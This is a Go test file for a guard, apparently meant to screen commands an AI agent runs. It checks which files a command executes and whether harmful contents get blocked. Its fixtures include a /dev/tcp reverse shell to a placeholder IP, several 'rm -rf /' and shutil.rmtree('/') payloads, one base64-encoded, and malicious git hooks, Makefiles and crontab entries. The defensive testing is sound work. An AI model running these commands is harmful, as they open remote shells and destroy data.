package static_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/e2bguard/e2bguard/guard"
	"github.com/e2bguard/e2bguard/guard/static"
)

func paths(runs []static.Run, _ bool) []string {
	var out []string
	for _, r := range runs {
		if !r.Library {
			out = append(out, r.Paths[0])
		}
	}

	return out
}

func TestRunsNamesTheFilesThatRun(t *testing.T) {
	t.Parallel()

	for _, tt := range []struct{ lang, text, want string }{
		{"bash", "bash x.sh", "/home/user/x.sh"},
		{"bash", "bash -x -e x.sh a b", "/home/user/x.sh"},
		{"bash", "sh -c './x.sh --flag'", "/home/user/x.sh"},
		{"bash", "./x", "/home/user/x"},
		{"bash", "/opt/app/run", "/opt/app/run"},
		{"bash", "../x", "/home/x"},
		{"bash", "~/bin/x", "/home/user/bin/x"},
		{"bash", `"$HOME/x"`, "/home/user/x"},
		{"bash", "bash $PWD/x.sh", "/home/user/x.sh"},
		{"bash", "cd /srv && ./x", "/srv/x"},
		{"bash", "cd app; cd sub; sh x", "/home/user/app/sub/x"},
		{"bash", "(cd app; sh x); sh x", "/home/user/app/x /home/user/x"},
		{"bash", "x=run.sh; bash ./$x", "/home/user/run.sh"},
		{"bash", "timeout 5 nice -n 3 bash x.sh", "/home/user/x.sh"},
		{"bash", "sudo -u root ./x", "/home/user/x"},
		{"bash", "env -S 'bash x.sh'", "/home/user/x.sh"},
		{"bash", "nohup ./x &", "/home/user/x"},
		{"bash", "python x.py", "/home/user/x.py"},
		{"bash", "python3.11 -u app", "/home/user/app"},
		{"bash", "python -m pkg.mod", "/home/user/pkg/mod/__main__.py"},
		{"bash", "source env.sh", "/home/user/env.sh"},
		{"bash", ". ./env.sh", "/home/user/env.sh"},
		{"bash", "make", "/home/user/GNUmakefile"},
		{"bash", "make -C app all", "/home/user/app/GNUmakefile"},
		{"bash", "make -f build.mk", "/home/user/build.mk"},
		{"bash", "node x.js", "/home/user/x.js"},
		{"bash", "node --require ./a.js x", "/home/user/a.js /home/user/x"},
		{"bash", "npm run build", "/home/user/package.json"},
		{"bash", "npm install", "/home/user/package.json"},
		{"bash", "cd app && yarn test", "/home/user/app/package.json"},
		{"bash", "npm --prefix web start", "/home/user/web/package.json"},
		{"bash", "pip install -e .", "/home/user/setup.py"},
		{"bash", "Rscript x.R", "/home/user/x.R"},
		{"bash", "java X.java", "/home/user/X.java"},
		{"bash", "ruby x.rb; perl x.pl; php x.php; lua x.lua", "/home/user/x.rb /home/user/x.pl /home/user/x.php /home/user/x.lua"},
		{"bash", "git commit -m x", "/home/user/.git/hooks/pre-commit /home/user/.git/hooks/prepare-commit-msg /home/user/.git/hooks/commit-msg /home/user/.git/hooks/post-commit"},
		{"bash", "git -C repo push", "/home/user/repo/.git/hooks/pre-push"},
		{"bash", "pytest tests/test_a.py::test_x", "/home/user/conftest.py /home/user/tests/test_a.py /home/user/tests/conftest.py"},
		{"bash", "bash < x", "/home/user/x"},
		{"bash", "cat a b | sh", "/home/user/a /home/user/b"},
		{"bash", "cat a | tr -d x | bash -s", "/home/user/a"},
		{"bash", "chmod +x x && ./x", "/home/user/x"},
		{"bash", "cp a b && ./b", "/home/user/a"},
		{"bash", "mv a /tmp/b; sh /tmp/b", "/home/user/a"},
		{"bash", "cat a b > c; bash c", "/home/user/a /home/user/b"},
		{"bash", `eval "$(cat x)"`, "/home/user/x"},
		{"bash", `bash -c "$(<x)"`, "/home/user/x"},
		{"bash", "echo 'ls' >> x.sh && bash x.sh", "/home/user/x.sh"},
		{"bash", "crontab jobs", "/home/user/jobs"},
		{"bash", "at -f x now", "/home/user/x"},
		{"bash", "BASH_ENV=./x bash -c true", "/home/user/x"},
		{"bash", "export PYTHONSTARTUP=/srv/x.py", "/srv/x.py"},
		{"bash", "base64 -d x | sh", "/home/user/x"},
		{"bash", "xargs sh < list", ""},
		{"bash", "find . -name '*.sh' -exec bash {} \\;", ""},
		{"bash", "/bin/bash x", "/home/user/x"},
		{"bash", "./ls", "/home/user/ls"},

		{"python", "exec(open('x').read())", "/home/user/x"},
		{"python", "import runpy; runpy.run_path('x.py')", "/home/user/x.py"},
		{"python", "import subprocess; subprocess.run(['bash', 'x.sh'])", "/home/user/x.sh"},
		{"python", "import os; os.system('./x')", "/home/user/x"},
		{"python", "import helper", "/home/user/helper.py"},
		{"python", "from pkg.sub import f", "/home/user/pkg/sub.py"},
		{"python", "%run x.py", "/home/user/x.py"},
		{"python", "%load x.py", "/home/user/x.py"},
		{"python", "!bash x.sh", "/home/user/x.sh"},
		{"python", "exec(compile(open('/srv/x').read(), 'x', 'exec'))", "/srv/x"},
		{"javascript", "require('./lib')", "/home/user/lib"},
		{"javascript", "import x from './x.mjs'", "/home/user/x.mjs"},
		{"javascript", "eval(require('fs').readFileSync('x', 'utf8'))", "/home/user/x"},
		{"javascript", "require('child_process').execSync('sh x')", "/home/user/x"},
		{"r", "source('x.R')", "/home/user/x.R"},

		{"bash", "ls -la; cat data.csv | sort; grep -r x .; git status; curl https://example.com", ""},
		{"bash", "python -c 'print(1)'; bash -c 'ls'; node -e '1'; echo x > y.sh", ""},
		{"bash", "echo 'ls' > x.sh && bash x.sh", ""},
		{"python", "print(open('data.csv').read())", ""},
		{"bash", "bash /dev/stdin; sh /proc/self/fd/0", ""},
	} {
		kind := guard.KindCommand
		if tt.lang != "bash" {
			kind = guard.KindCode
		}

		runs, whole := static.Runs(guard.Subject{Kind: kind, Language: tt.lang, Text: tt.text})
		assert.Equal(t, tt.want, strings.Join(paths(runs, whole), " "), tt.text)
		assert.True(t, whole, tt.text)
	}
}

func TestRunsTakesTheWorkingDirectoryAndHomeOfTheUser(t *testing.T) {
	t.Parallel()

	s := guard.Subject{Kind: guard.KindCommand, Language: "bash", Text: "sh x; sh ~/y", Labels: map[string]string{guard.LabelCwd: "/srv/app", guard.LabelUser: "root"}}
	assert.Equal(t, []string{"/srv/app/x", "/root/y"}, paths(static.Runs(s)))

	s.Labels[guard.LabelCwd] = "app"
	assert.Equal(t, []string{"/root/app/x", "/root/y"}, paths(static.Runs(s)))
}

func TestRunsFollowsTheFilesItIsGiven(t *testing.T) {
	t.Parallel()

	s := guard.Subject{Kind: guard.KindCommand, Language: "bash", Text: "bash app/x.sh"}
	s.Files = append(s.Files, guard.File{Path: "/home/user/app/x.sh", Text: ". ./env.sh\npython app/main.py"})
	require.Equal(t, []string{"/home/user/env.sh", "/home/user/app/main.py"}, paths(static.Runs(s)))

	s.Files = append(s.Files, guard.File{Path: "/home/user/app/main.py", Text: "import util\nimport json"})
	runs, whole := static.Runs(s)
	require.Equal(t, []string{"/home/user/env.sh", "/home/user/app/util.py"}, paths(runs, whole))
	assert.False(t, runs[0].Optional)
	assert.True(t, runs[1].Optional)
	assert.Equal(t, static.Run{Paths: []string{"/home/user/app/json.py", "/home/user/app/json/__init__.py"}, Optional: true, Library: true}, runs[2])
}

// What is harmful only with the text of the file, the arguments, or another file.
func TestFilesAreJudgedWithTheCommandThatRunsThem(t *testing.T) {
	t.Parallel()

	g, err := static.New(static.Options{})
	require.NoError(t, err)

	const evil = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
	for _, tt := range []struct {
		lang, text string
		files      []guard.File
		block      bool
	}{
		{"bash", "bash x.txt", []guard.File{{Path: "/home/user/x.txt", Text: evil}}, true},
		{"bash", "bash x.txt", []guard.File{{Path: "/home/user/x.txt", Text: "echo hello"}}, false},
		{"bash", "./clean.sh /", []guard.File{{Path: "/home/user/clean.sh", Text: `rm -rf "$1"`}}, true},
		{"bash", "./clean.sh build", []guard.File{{Path: "/home/user/clean.sh", Text: `rm -rf "$1"`}}, false},
		{"bash", "cat a b | sh", []guard.File{{Path: "/home/user/a", Text: "rm -rf "}, {Path: "/home/user/b", Text: "/\n"}}, true},
		{"bash", `eval "$(cat x)"`, []guard.File{{Path: "/home/user/x", Text: "rm -rf /"}}, true},
		{"bash", "base64 -d x | sh", []guard.File{{Path: "/home/user/x", Text: "cm0gLXJmIC8K"}}, true},
		{"bash", "python app", []guard.File{{Path: "/home/user/app", Text: "import shutil; shutil.rmtree('/')"}}, true},
		{"bash", "make", []guard.File{{Path: "/home/user/Makefile", Text: "all:\n\trm -rf /\n"}}, true},
		{"bash", "cd a && make", []guard.File{{Path: "/home/user/a/Makefile", Text: "all:\n\tbash x\n"}, {Path: "/home/user/a/x", Text: evil}}, true},
		{"bash", "npm test", []guard.File{{Path: "/home/user/package.json", Text: `{"scripts":{"test":"rm -rf /"}}`}}, true},
		{"bash", "git commit -m x", []guard.File{{Path: "/home/user/.git/hooks/pre-commit", Text: evil}}, true},
		{"bash", "source env", []guard.File{{Path: "/home/user/env", Text: evil}}, true},
		{"bash", "node x.js", []guard.File{{Path: "/home/user/x.js", Text: "require('./y')"}, {Path: "/home/user/y.js", Text: "require('child_process').execSync('rm -rf /')"}}, true},
		{"bash", "BASH_ENV=~/.profile bash -c true", []guard.File{{Path: "/home/user/.profile", Text: evil}}, true},
		{"bash", "crontab jobs", []guard.File{{Path: "/home/user/jobs", Text: "* * * * * " + evil}}, true},
		{"bash", "./ls", []guard.File{{Path: "/home/user/ls", Text: evil}}, true},
		{"bash", "echo 'ls' >> x.sh && bash x.sh", []guard.File{{Path: "/home/user/x.sh", Text: evil + "\n"}}, true},
		{"python", "exec(open('x').read())", []guard.File{{Path: "/home/user/x", Text: "import shutil; shutil.rmtree('/')"}}, true},
		{"python", "import helper", []guard.File{{Path: "/home/user/helper.py", Text: "import shutil; shutil.rmtree('/')"}}, true},
		{"python", "import subprocess; subprocess.run(['bash', 'x.sh'])", []guard.File{{Path: "/home/user/x.sh", Text: evil}}, true},
		{"python", "%run x.py", []guard.File{{Path: "/home/user/x.py", Text: "import shutil; shutil.rmtree('/')"}}, true},
		{"python", "import helper\nprint(helper.f())", []guard.File{{Path: "/home/user/helper.py", Text: "def f():\n    return 1\n"}}, false},
	} {
		kind := guard.KindCommand
		if tt.lang != "bash" {
			kind = guard.KindCode
		}

		v, err := g.Review(t.Context(), guard.Subject{Kind: kind, Language: tt.lang, Text: tt.text, Files: tt.files})
		require.NoError(t, err)
		assert.Equal(t, tt.block, v.Decision == guard.Block, "%s: %s", tt.text, v.Reasoning)
	}
}

func TestOnlyTheStrictProfileBlocksWhatWasNotSeen(t *testing.T) {
	t.Parallel()

	s := guard.Subject{Kind: guard.KindCommand, Language: "bash", Text: "bash x.sh", Labels: map[string]string{guard.LabelUnseen: "/home/user/x.sh"}}
	for profile, want := range map[static.Profile]guard.Decision{static.Strict: guard.Block, static.Balanced: guard.Pass, static.Permissive: guard.Pass} {
		g, err := static.New(static.Options{Profile: profile})
		require.NoError(t, err)
		v, err := g.Review(t.Context(), s)
		require.NoError(t, err)
		assert.Equal(t, want, v.Decision, profile)
	}
}

func TestRunsSaysWhereItDidNotReadToTheEnd(t *testing.T) {
	t.Parallel()

	_, whole := static.Runs(guard.Subject{Kind: guard.KindCommand, Language: "bash", Text: strings.Repeat("echo $((1+1)); ", 60_000) + "bash x"})
	assert.False(t, whole)
	_, whole = static.Runs(guard.Subject{Kind: guard.KindCommand, Language: "bash", Text: strings.Repeat("x", 5<<20)})
	assert.False(t, whole)
	runs, whole := static.Runs(guard.Subject{Kind: guard.KindFile, Language: "bash", Text: "bash x"})
	assert.Empty(t, runs, "a file that is written does not run")
	assert.True(t, whole)
}
